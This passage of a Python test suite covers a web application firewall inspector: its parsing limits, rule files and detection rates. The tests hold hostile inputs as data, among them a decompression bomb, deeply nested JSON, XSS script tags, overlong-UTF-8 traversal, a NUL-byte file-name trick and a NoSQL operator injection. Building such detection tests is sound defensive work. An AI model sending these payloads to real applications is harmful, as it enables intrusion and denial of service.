    bomb = zlib.compress(b"a" * 100_000)
    findings = limited(max_body_bytes=10_000).inspect(post(bomb, "text/plain", ("content-encoding", "deflate")))
    assert rules_of(findings) == {"protocol.limits"}


def test_json_nesting_deeper_than_its_limit() -> None:
    deep = "[" * 40 + '"x"' + "]" * 40
    assert rules_of(limited(max_depth=32).inspect(post(deep, "application/json"))) == {"protocol.limits"}
    assert limited(max_depth=41).inspect(post(deep, "application/json")) == []


def test_json_nesting_beyond_the_parser(inspector: Inspector) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    assert rules_of(inspector.inspect(post(deep, "application/json"))) == {"protocol.limits"}


def test_xml_nesting_deeper_than_its_limit() -> None:
    deep = "<a>" * 40 + "x" + "</a>" * 40
    assert rules_of(limited(max_depth=32).inspect(post(deep, "application/xml"))) == {"protocol.limits"}


def test_encoding_layers_past_the_decode_limit() -> None:
    value = "<script>"
    for _ in range(8):
        value = quote(value, safe="")
    findings = limited(max_decode_passes=6).inspect(query(value))
    assert "protocol.limits" in rules_of(findings)
    assert "xss" not in families(limited(max_decode_passes=6).inspect(query(quote(quote("x", safe=""), safe=""))))


def test_too_many_values() -> None:
    body = json.dumps([str(i) for i in range(100)])
    findings = limited(max_values=50).inspect(post(body, "application/json"))
    assert [(f.rule, f.location) for f in findings] == [("protocol.limits", "request")]


def test_too_many_parts() -> None:
    body = multipart(*[(f'name="p{i}"', "x") for i in range(20)])
    assert rules_of(limited(max_parts=10).inspect(post(body, MULTIPART))) == {"protocol.limits"}


def test_findings_stop_at_their_limit() -> None:
    body = json.dumps({f"k{i}": "<script>alert(1)</script>" for i in range(50)})
    assert len(limited(max_findings=5).inspect(post(body, "application/json"))) == 5


def test_overlong_utf8_and_nul_are_protocol_findings(inspector: Inspector) -> None:
    assert "protocol.overlong-utf8" in rules_of(inspector.inspect(query("%c0%ae%c0%ae")))
    assert "protocol.nul-byte" in rules_of(inspector.inspect(query("report.pdf%00.png")))


# --- findings -------------------------------------------------------------------------------------


def test_snippet_is_short_escaped_and_decoded(inspector: Inspector) -> None:
    value = "A" * 300 + "\r\n<script>alert(1)</script>" + "B" * 300
    findings = inspector.inspect(post(json.dumps({"c": value}), "application/json"))
    script = next(f for f in findings if f.rule == "xss.script-tag")
    assert "<script>" in script.snippet
    assert "\r" not in script.snippet and "\\r\\n" in script.snippet
    assert len(script.snippet) <= 50 and script.snippet.startswith("…") and script.snippet.endswith("…")


def test_families_are_the_documented_ones() -> None:
    assert FAMILIES == ("sqli", "xss", "cmdi", "traversal", "xxe", "exploit", "protocol")
    assert {r.family for r in RuleSet.default().rules} == set(FAMILIES)


def test_cache_gives_the_same_findings() -> None:
    cached = Inspector(RuleSet.default())
    request = query(ATTACKS["sqli"])
    first = cached.inspect(request)
    assert first and cached.inspect(request) == first
    # a cached value still honours the exclusions of the request at hand
    assert cached.inspect(request, Exclusions(families=("sqli",))) == []
    # and what a value is depends on where it is: a name rule does not apply to a value
    assert cached.inspect(get("/login?q=user[$ne]")) == []
    assert {f.rule for f in cached.inspect(get("/login?user[$ne]=x"))} == {"sqli.nosql-operator"}


# --- rules as data ---------------------------------------------------------------------------------


def test_default_rules_are_versioned() -> None:
    rules = RuleSet.default()
    assert rules.version and len(rules.ids()) == len(set(rules.ids()))


def test_a_new_signature_is_a_data_change() -> None:
    request = get("/?q=%24%7Bnextbig%3Apwn%7D")
    assert Inspector(RuleSet.default()).inspect(request) == []
    extra = {"id": "exploit.next-big-thing", "family": "exploit", "pattern": r"\$\{nextbig:"}
    rules = RuleSet.default().with_changes(extra=[extra])
    findings = Inspector(rules).inspect(request)
    assert [(f.rule, f.location) for f in findings] == [("exploit.next-big-thing", "query:q")]
    assert rules.version.endswith("+1 extra -0 disabled")


def test_disabled_rules_no_longer_report() -> None:
    request = query(ATTACKS["xss"])
    rules = RuleSet.default().without("xss.libinjection", "xss.event-handler", "xss.js-sink")
    assert "xss" not in families(Inspector(rules).inspect(request))
    with pytest.raises(ValueError, match=r"'xss\.nope': no such rule"):
        RuleSet.default().without("xss.nope")


def test_round_trip_through_data() -> None:
    rules = RuleSet.default()
    assert RuleSet.from_data(rules.to_data()) == rules


def test_bad_rule_file_reports_every_problem_naming_the_rule() -> None:
    data = {
        "version": "t",
        "limits": {"max_depth": 0},
        "rules": [
            {"id": "a.lookahead", "family": "xss", "pattern": "(?=x)"},
            {"id": "a.family", "family": "csrf", "pattern": "x"},
            {"id": "a.both", "family": "xss", "pattern": "x", "detector": "libinjection-xss"},
            {"id": "a.lookahead", "family": "xss", "pattern": "y"},
        ],
    }
    with pytest.raises(ValueError) as raised:
        RuleSet.from_data(data)
    message = str(raised.value)
    assert "limits.max_depth: must be a positive integer" in message
    assert "rules[0] (id 'a.lookahead'): 'pattern' is not a valid RE2 expression" in message
    assert "rules[1] (id 'a.family'): 'family' must be one of" in message
    assert "rules[2] (id 'a.both'): exactly one of 'pattern' and 'detector'" in message
    assert "rule id 'a.lookahead' is used twice" not in message  # the first one was invalid
    assert message.startswith("4 problems:")


def test_limits_have_their_documented_defaults() -> None:
    assert RuleSet.default().limits == Limits()


# --- the corpus holds the line --------------------------------------------------------------


def test_corpus_detection_and_false_positive_rates() -> None:
    from tests.waf_corpus import corpus

    inspector = Inspector(RuleSet.default())
    caught: dict[str, list[int]] = {}
    # the development set and the three held-out ones (regression sets since their gaps were fixed)
    cases = [
        case
        for source in ("attacks.yaml", "holdout.yaml", "holdout2.yaml", "holdout3.yaml")
        for case in corpus.attacks(source)
    ]
    for case in cases[::3]:
        row = caught.setdefault(case.family, [0, 0])
        row[0] += 1
        row[1] += case.family in families(inspector.inspect(case.request))
    for family, (total, hits) in caught.items():
        assert hits / total >= 0.95, f"{family}: {hits}/{total}"
    benign = corpus.benign(real_specs=False)
    flagged = [c for c in benign if inspector.inspect(c.request, c.exclusions)]
    assert len(flagged) / len(benign) <= 0.01, [c.payload for c in flagged]
